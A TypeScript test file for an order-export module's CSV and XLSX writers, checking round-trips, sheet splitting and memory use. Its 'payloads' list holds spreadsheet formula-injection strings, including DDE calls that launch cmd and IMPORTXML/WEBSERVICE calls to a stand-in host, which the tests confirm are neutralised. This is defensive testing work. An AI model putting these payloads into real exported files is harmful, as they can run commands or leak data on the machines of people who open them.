import { cleanCell } from '@stowline/domain/orders/imports/cells'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { openArchive } from '../archive.ts'
import type { OutCell } from './cells-out.ts'
import { readSheet } from './read.ts'
import { writeCsv } from './write-csv.ts'
import { writeForm } from './write-form.ts'
import { writeXlsx } from './write-xlsx.ts'
import { xmlParser } from './xml.ts'

const collect = async (parts: AsyncIterable<Uint8Array>): Promise<Buffer> => {
  const all: Uint8Array[] = []
  for await (const part of parts) all.push(part)
  return Buffer.concat(all)
}
const formats = {
  csv: (headers: readonly string[], rows: readonly (readonly OutCell[])[]) => collect(writeCsv(headers, [rows])),
  xlsx: (headers: readonly string[], rows: readonly (readonly OutCell[])[]) =>
    collect(
      writeXlsx(
        'Orders',
        headers.map((header) => ({ header })),
        [rows],
      ),
    ),
} as const
const readBack = async (bytes: Buffer): Promise<string[][]> => {
  const rows: string[][] = []
  for await (const { cells } of readSheet(bytes)) rows.push(cells.map(cleanCell))
  return rows
}

/** What spreadsheets have been made to run. */
const payloads = [
  '=1+1',
  '=HYPERLINK("http://evil.example","click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '-2+3+cmd|" /C calc"!A0',
  '+cmd|"/C calc"!A0',
  '=DDE("cmd","/C calc","x")',
  "'=1+1",
  '=1+1";=1+1',
]

describe.each(['csv', 'xlsx'] as const)('%s', (format) => {
  test.each(payloads)('%j does not run, and comes back', async (payload) => {
    const bytes = await formats[format](['text'], [[payload]])
    if (format === 'csv') expect(bytes.toString().split('\r\n').slice(1).join('\r\n')).toMatch(/^"?'/)
    else {
      const archive = await openArchive(bytes)
      const sheet = archive.entries.find(({ name }) => name === 'xl/worksheets/sheet1.xml')
      if (!sheet) throw new Error('no sheet')
      expect((await archive.readWhole(sheet)).toString()).not.toMatch(/<f[ >]/)
    }
    const [, row] = await readBack(bytes)
    expect(row?.[0]).toBe(format === 'csv' ? cleanCell(`'${payload}`) : cleanCell(payload))
  })

  test('numbers stay numbers, also negative ones, and text that is a number stays text', async () => {
    const [, row] = await readBack(await formats[format](['a', 'b', 'c', 'd'], [[-3.5, 12, '-3.50', '00501']]))
    expect(row).toEqual(['-3.5', '12', '-3.50', '00501'])
  })

  test.each(['\ufffe', '\uffff'])('%j fills a cell, so its row comes out', async (text) => {
    expect(await readBack(await formats[format](['a'], [[text], ['end']]))).toEqual([['a'], [text], ['end']])
  })

  test('whatever text goes in comes out', async () => {
    const text = fc.string({ unit: 'binary', maxLength: 40 }).map((raw) => cleanCell(raw))
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 3, maxLength: 3 }), async (row) => {
        const [, back] = await readBack(await formats[format](['a', 'b', 'c'], [row, ['end', 'end', 'end']]))
        expect(back ?? ['', '', '']).toEqual(
          row.every((cell) => cell === '') && format === 'xlsx'
            ? ['end', 'end', 'end']
            : [...row].slice(0, back?.length),
        )
      }),
      { numRuns: 40 },
    )
  })
})

/** The parts of a workbook by their path, each of them well-formed. */
const partsOf = async (bytes: Buffer): Promise<Readonly<Record<string, string>>> => {
  const archive = await openArchive(bytes)
  const parts: Record<string, string> = {}
  for (const entry of archive.entries) {
    const whole = await archive.readWhole(entry)
    const parser = xmlParser({})
    parser.write(whole)
    parser.end()
    parts[entry.name] = whole.toString()
  }
  return parts
}
const marked = (sheet = ''): string[] =>
  [...sheet.matchAll(/<c r="([A-Z]+\d+)" s="1" t="inlineStr">/g)].map(([, place = '']) => place)

test('texts that look like formulas, and no others, have the cell format by which they stay text', async () => {
  const harmless = ['Dana', "O'Neil", '00501', '-3.50', '+12125551234', ' = 1', '', '1=1', 'a@b.example']
  const bytes = await formats.xlsx(
    ['@head', 'b', 'c'],
    [...payloads.map((payload) => ['x', payload, -1]), ...harmless.map((text) => ['x', text, null])],
  )
  const parts = await partsOf(bytes)
  expect(marked(parts['xl/worksheets/sheet1.xml'])).toEqual(['A1', ...payloads.map((_, at) => `B${at + 2}`)])
  expect(parts['xl/worksheets/sheet1.xml']?.match(/ s="/g)).toHaveLength(payloads.length + 1)
  const formatsOfCells = /<cellXfs count="2">(.*?)<\/cellXfs>/
    .exec(parts['xl/styles.xml'] ?? '')?.[1]
    ?.match(/<xf [^>]*\/>/g)
  expect(formatsOfCells?.map((format) => format.includes('quotePrefix="1"'))).toEqual([false, true])
  const rows: string[][] = []
  for await (const { cells } of readSheet(bytes)) rows.push([...cells])
  expect(rows.map((row) => row[1] ?? '')).toEqual(['b', ...payloads, ...harmless])
})

test('rows beyond the end of a sheet stand on a further one, under the headers again', async () => {
  const bytes = await collect(
    writeXlsx('Orders <1> of the whole autumn sale', [{ header: 'n' }], [[], [[1], [2], [3]], [[4], [5]]], 3),
  )
  const parts = await partsOf(bytes)
  const numbers = (sheet: number) =>
    [...(parts[`xl/worksheets/sheet${sheet}.xml`] ?? '').matchAll(/<v>(\d+)<\/v>/g)].map(([, text]) => Number(text))
  expect([1, 2, 3, 4].map(numbers)).toEqual([[1, 2], [3, 4], [5], []])
  expect(parts['xl/worksheets/sheet3.xml']).toContain('<c r="A1" t="inlineStr">')
  expect([...(parts['xl/workbook.xml'] ?? '').matchAll(/<sheet name="([^"]*)"/g)].map(([, own]) => own)).toEqual([
    'Orders &lt;1&gt; of the whole autumn ',
    'Orders &lt;1&gt; of the whole autum_2',
    'Orders &lt;1&gt; of the whole autum_3',
  ])
})

test.each([[[]], [[[null, '']]]])('a workbook of the rows %j has its headers', async (rows) => {
  expect(await readBack(await formats.xlsx(['a', 'b'], rows))).toEqual([['a', 'b']])
})

const writtenRaw = async (text: string): Promise<string | undefined> => {
  for await (const { cells } of readSheet(await formats.xlsx([], [[text, 'end']]))) return cells[0]
  return undefined
}

test.each([
  '\ufffe',
  '\uffff',
  'a\u0000b',
  '\u0001\b\u001f',
  '\u007f\u0085',
  '\r\n\t',
  '_x0041_',
  '_x005F_x0041_',
  '__x000d_x000A_',
  '_x12_',
  '_xABCD\u0001',
  '_xABCD\t',
])('a workbook gives %j back as it was', async (text) => expect(await writtenRaw(text)).toBe(text))
test('a workbook gives any text back as it was', async () => {
  const unit = fc.oneof(
    fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
    fc.constantFrom('_', 'x', '0', '4', '_x0041_', '\ufffe'),
  )
  await fc.assert(
    fc.asyncProperty(fc.string({ unit, maxLength: 40 }), async (text) => {
      expect(await writtenRaw(text)).toBe(text)
    }),
    { numRuns: 40 },
  )
})

test('a form has its drop-downs and keeps ZIP codes as text', async () => {
  const bytes = Buffer.from(
    await writeForm([
      { name: '订单', headers: ['ZIP*', 'Country'], rows: [['00501', 'US']], choices: [{ column: 1, values: ['US'] }] },
    ]),
  )
  expect(await readBack(bytes)).toEqual([
    ['ZIP*', 'Country'],
    ['00501', 'US'],
  ])
  const archive = await openArchive(bytes)
  const sheet = archive.entries.find(({ name }) => name.includes('sheet1.xml'))
  if (!sheet) throw new Error('no sheet')
  expect((await archive.readWhole(sheet)).toString()).toContain('<dataValidation')
})

test('100,000 rows are written in a flat amount of memory', { timeout: 60_000 }, async () => {
  const rows = function* (): Generator<OutCell[][]> {
    for (let page = 0; page < 100; page++)
      yield Array.from({ length: 1_000 }, (_, at) => [`SO${page}-${at}`, 'Dana Whitfield', '97209', at, 'LAMP-OAK-01'])
  }
  const before = process.memoryUsage().rss
  let size = 0
  for await (const part of writeXlsx(
    'Orders',
    ['a', 'b', 'c', 'd', 'e'].map((header) => ({ header })),
    rows(),
  ))
    size += part.length
  expect(size).toBeGreaterThan(500_000)
  expect(process.memoryUsage().rss - before).toBeLessThan(150e6)
})
